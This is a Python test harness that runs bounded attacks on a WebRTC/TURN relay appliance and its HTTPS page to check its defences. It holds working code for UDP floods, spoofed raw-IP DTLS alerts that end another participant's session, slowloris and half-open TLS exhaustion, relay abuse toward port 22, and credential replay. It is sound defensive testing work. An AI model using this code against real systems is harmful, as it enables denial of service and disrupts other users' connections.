"""Attacks on an appliance, each bounded in count and time. Targets are addresses of the test's own namespaces.

    python3 attack.py NAME HOST [KEY=VALUE ...]

Prints one JSON object: what was sent, and what came back. Only the standard library.
"""

import hashlib
import hmac
import json
import os
import random
import resource
import select
import socket
import ssl
import struct
import sys
import time

HTTPS, MEDIA, ICE_TCP = 443, 3478, 7881
COOKIE = 0x2112A442
BINDING, ALLOCATE, CREATE_PERMISSION, CHANNEL_BIND, SEND = 0x0001, 0x0003, 0x0008, 0x0009, 0x0016
USERNAME, INTEGRITY, ERROR_CODE, CHANNEL_NUMBER, PEER, DATA = 0x0006, 0x0008, 0x0009, 0x000C, 0x0012, 0x0013
REALM, NONCE, RELAYED, TRANSPORT = 0x0014, 0x0015, 0x0016, 0x0019
UDP_PROTOCOL = 17 << 24
# Seconds that a whole attack may take.
TIME_MAX_S = 20


def attribute(kind, value):
    return struct.pack("!HH", kind, len(value)) + value + bytes(-len(value) % 4)


def message(kind, attributes=b"", transaction=None):
    return struct.pack("!HHI", kind, len(attributes), COOKIE) + (transaction or os.urandom(12)) + attributes


def address(host, port):
    """XOR-PEER-ADDRESS of IPv4 (RFC 8489, 14.2)."""
    number = struct.unpack("!I", socket.inet_aton(host))[0] ^ COOKIE
    return struct.pack("!BBHI", 0, 1, port ^ (COOKIE >> 16), number)


def attributes(packet):
    found, at = {}, 20
    while at + 4 <= len(packet):
        kind, length = struct.unpack_from("!HH", packet, at)
        found[kind] = packet[at + 4 : at + 4 + length]
        at += 4 + length + -length % 4
    return found


def code(packet):
    """The error code of a response; 0 of a success, none of something else."""
    kind = struct.unpack_from("!H", packet)[0]
    if kind & 0x0110 == 0x0100:
        return 0
    error = attributes(packet).get(ERROR_CODE)
    return error[2] * 100 + error[3] if error else None


def flood_udp(host, make, count):
    """Sends as fast as it can, and counts what comes back."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.setblocking(False)
        udp.connect((host, MEDIA))
        sent, answers, end = 0, {}, time.monotonic() + TIME_MAX_S

        def read():
            try:
                while True:
                    answer = udp.recv(2048)
                    key = str(code(answer)) if len(answer) >= 20 else "short"
                    answers[key] = answers.get(key, 0) + 1
            except BlockingIOError:
                return
            except ConnectionRefusedError:
                answers["unreachable"] = answers.get("unreachable", 0) + 1

        while sent < count and time.monotonic() < end:
            try:
                udp.send(make())
                sent += 1
            except BlockingIOError:
                select.select([], [udp], [], 0.1)
            if sent % 64 == 0:
                read()
        time.sleep(0.5)
        read()
        return {"sent": sent, "answers": answers, "seconds": round(TIME_MAX_S - (end - time.monotonic()), 1)}


def allocate(host, count="100000"):
    """Allocate without credentials: each answer is 401 or nothing."""
    body = attribute(TRANSPORT, struct.pack("!I", UDP_PROTOCOL))
    return flood_udp(host, lambda: message(ALLOCATE, body), int(count))


def binding(host, count="100000"):
    return flood_udp(host, lambda: message(BINDING), int(count))


def forged(host, count="50000"):
    """Checks and media of somebody who has no key: STUN with a made-up name and integrity, DTLS, SRTP, SRTCP."""
    name = attribute(USERNAME, b"abcd:efgh") + attribute(INTEGRITY, bytes(20))

    def one():
        first = random.choice((0x00, 0x16, 0x80, 0x81))
        if first == 0:
            return message(BINDING, name)
        return bytes([first, random.choice((96, 111, 200, 254))]) + os.urandom(random.randrange(10, 1200))

    return flood_udp(host, one, int(count))


def spoofed(host, source, port, count="20000"):
    """The same under the address of somebody in the lesson: what his own packets look like, and words that end a connection."""
    name = attribute(USERNAME, b"abcd:efgh") + attribute(INTEGRITY, bytes(20))
    # DTLS 1.2, first epoch: an alert (fatal, close_notify or unexpected_message), and a handshake.
    alert = lambda: b"\x15\xfe\xfd" + bytes(2) + os.urandom(6) + b"\x00\x02\x02" + random.choice((b"\x00", b"\x0a"))
    hello = lambda: b"\x16\xfe\xfd" + bytes(2) + os.urandom(6) + b"\x00\x40\x01" + os.urandom(63)
    media = lambda: bytes([0x80, random.choice((96, 111, 200, 203))]) + os.urandom(random.randrange(10, 1200))
    makers = (alert, hello, media, lambda: message(BINDING, name))
    ends = socket.inet_aton(source), socket.inet_aton(host)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        sent, end = 0, time.monotonic() + TIME_MAX_S
        while sent < int(count) and time.monotonic() < end:
            body = random.choice(makers)()
            # The kernel fills in length, id and checksum of the IP header; UDP has none (RFC 768).
            ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_UDP, 0, *ends)
            raw.sendto(ip + struct.pack("!HHHH", int(port), MEDIA, 8 + len(body), 0) + body, (host, 0))
            sent += 1
    return {"sent": sent, "seconds": round(TIME_MAX_S - (end - time.monotonic()), 1)}


def page(host, seconds="8"):
    """Not an attack: somebody else opens the page over and over on new connections. The slowest, and what failed."""
    end, took, failed = time.monotonic() + float(seconds), [], 0
    while time.monotonic() < end:
        begun = time.monotonic()
        try:
            with tls(host) as one:
                one.sendall(b"GET / HTTP/1.1\r\nHost: " + host.encode() + b"\r\nConnection: close\r\n\r\n")
                if b" 200 " not in one.recv(64):
                    failed += 1
        except OSError:
            failed += 1
        took.append(time.monotonic() - begun)
        time.sleep(0.25)
    return {"pages": len(took), "failed": failed, "slowest_ms": round(max(took) * 1000)}


def half_open(host, sources, count="1800", hold="10"):
    """Connections that begin a TLS handshake and never go on. How many the appliance closed by itself."""
    opened, refused, sources = [], 0, sources.split(",")
    for number in range(int(count)):
        try:
            source = (sources[number % len(sources)], 0)
            tcp = socket.create_connection((host, HTTPS), timeout=3, source_address=source)
            tcp.sendall(b"\x16\x03\x01\x02\x00\x01\x00")
            opened.append(tcp)
        except OSError:
            refused += 1
    return {"opened": len(opened), "refused": refused, **closed_within(opened, float(hold))}


def closed_within(connections, seconds):
    """Waits, and counts which ends the other side has closed."""
    end, closed = time.monotonic() + seconds, 0
    poll = select.poll()
    open_ = {tcp.fileno(): tcp for tcp in connections}
    for number, tcp in open_.items():
        tcp.setblocking(False)
        poll.register(number, select.POLLIN)
    while open_ and time.monotonic() < end:
        for number, _ in poll.poll(max(0, (end - time.monotonic()) * 1000)):
            try:
                gone = not open_[number].recv(4096)
            except (BlockingIOError, ssl.SSLWantReadError):
                # A part of a TLS record, or a ticket.
                gone = False
            except OSError:
                gone = True
            if gone:
                closed += 1
                poll.unregister(number)
                open_.pop(number).close()
    for tcp in open_.values():
        tcp.close()
    return {"closed_by_appliance": closed}


# An attacker does not care whose certificate it is.
CONTEXT = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
CONTEXT.check_hostname, CONTEXT.verify_mode = False, ssl.CERT_NONE


def tls(host):
    return CONTEXT.wrap_socket(socket.create_connection((host, HTTPS), timeout=5))


def slow(host, count="200", hold="15"):
    """Requests whose head comes a byte at a time."""
    opened, refused = [], 0
    for _ in range(int(count)):
        try:
            opened.append(tls(host))
        except OSError:
            refused += 1
    text, end, dripped = b"GET / HTTP/1.1\r\nHost: belfry\r\nX-Slow: ", time.monotonic() + float(hold), 0
    alive = list(opened)
    while time.monotonic() < end and alive:
        for one in list(alive):
            try:
                one.send(text[dripped % len(text) : dripped % len(text) + 1])
            except OSError:
                alive.remove(one)
        dripped += 1
        time.sleep(0.5)
    return {"opened": len(opened), "refused": refused, **closed_within(opened, 1)}


def oversized(host, count="200"):
    """ChannelData that claims 64 KiB, and rubbish that looks like it: inside TLS alone and after TURN, by TCP and by UDP."""
    frame = struct.pack("!HH", 0x4001, 0xFFFF)
    ended = {}
    for name, connect in {
        "tls": lambda: tls(host),
        "turn_tls": lambda: Turn(host, "", "").stream,
        "turn_tcp": lambda: socket.create_connection((host, MEDIA), timeout=5),
        "ice_tcp": lambda: socket.create_connection((host, ICE_TCP), timeout=5),
    }.items():
        opened = []
        for _ in range(int(count)):
            try:
                one = connect()
                one.sendall(frame + os.urandom(4096))
                opened.append(one)
            except OSError:
                pass
        ended[name] = {"opened": len(opened), **closed_within(opened, 3)}
    ended["udp"] = flood_udp(host, lambda: frame + os.urandom(1300), 20_000)
    return ended


class Turn:
    """A client of the relay inside TLS, with credentials."""

    def __init__(self, host, username, credential):
        self.stream, self.username, self.credential = tls(host), username, credential
        challenge = self.exchange(ALLOCATE, attribute(TRANSPORT, struct.pack("!I", UDP_PROTOCOL)), signed=False)
        told = attributes(challenge)
        self.realm, self.nonce = told.get(REALM, b""), told.get(NONCE, b"")

    def exchange(self, kind, body=b"", signed=True):
        if signed:
            body += attribute(USERNAME, self.username.encode()) + attribute(REALM, self.realm) + attribute(NONCE, self.nonce)
            key = hashlib.md5(b":".join((self.username.encode(), self.realm, self.credential.encode()))).digest()
            head = message(kind, body)
            covered = struct.pack("!HH", kind, len(body) + 24) + head[4:]
            request = covered + attribute(INTEGRITY, hmac.new(key, covered, hashlib.sha1).digest())
        else:
            request = message(kind, body)
        self.stream.sendall(request)
        head = self.read(20)
        return head + self.read(struct.unpack_from("!H", head, 2)[0])

    def read(self, count):
        data = b""
        while len(data) < count:
            part = self.stream.recv(count - len(data))
            if not part:
                raise OSError("the relay has closed")
            data += part
        return data

    def allocate(self):
        answer = self.exchange(ALLOCATE, attribute(TRANSPORT, struct.pack("!I", UDP_PROTOCOL)))
        self.reason = attributes(answer).get(ERROR_CODE, bytes(4))[4:].decode()
        return code(answer)

    def send(self, host, port):
        """Data for somebody without a permission: there is no answer to it."""
        self.stream.sendall(message(SEND, attribute(PEER, address(host, port)) + attribute(DATA, b"hello")))

    def permit(self, host):
        return code(self.exchange(CREATE_PERMISSION, attribute(PEER, address(host, 0))))

    def bind(self, host, port):
        number = struct.pack("!HH", 0x4000, 0)
        return code(self.exchange(CHANNEL_BIND, attribute(CHANNEL_NUMBER, number) + attribute(PEER, address(host, port))))


def relay_abroad(host, username, credential, peers):
    """With good credentials towards where the relay must not lead. The codes of its answers; 0 would be success."""
    turn = Turn(host, username, credential)
    answers = {"allocate": turn.allocate()}
    for peer in peers.split(","):
        turn.send(peer, 22)
        answers[peer] = {"permission": turn.permit(peer), "channel": turn.bind(peer, 22)}
        turn.send(peer, 22)
    return answers


def relay_bad_credentials(host, username, credential, left_username, left_credential):
    """A wrong password, one for another time, one for nobody, and good ones of somebody who has left the lesson."""
    answers = {}
    for name, (user, password) in {
        "wrong": (username, credential + "x"),
        "another_time": ("4000000000:" + username.partition(":")[2], credential),
        "nobody": (username.partition(":")[0] + ":PA_NOBODY", credential),
        "left": (left_username, left_credential),
    }.items():
        turn = Turn(host, user, password)
        answers[name] = {"code": turn.allocate(), "reason": turn.reason}
    return answers


def relay_greedy(host, username, credential, count="64"):
    """One participant wants many allocations. How many it got."""
    held, answers = [], {}
    for _ in range(int(count)):
        try:
            turn = Turn(host, username, credential)
            answer = turn.allocate()
            held.append(turn)
        except OSError:
            answer = "closed"
        answers[str(answer)] = answers.get(str(answer), 0) + 1
    return answers


ATTACKS = {
    run.__name__: run
    for run in (
        allocate,
        binding,
        forged,
        spoofed,
        half_open,
        slow,
        oversized,
        relay_abroad,
        relay_bad_credentials,
        relay_greedy,
        page,
    )
}

if __name__ == "__main__":
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    name, target, *rest = sys.argv[1:]
    print(json.dumps(ATTACKS[name](target, **dict(pair.split("=", 1) for pair in rest))))
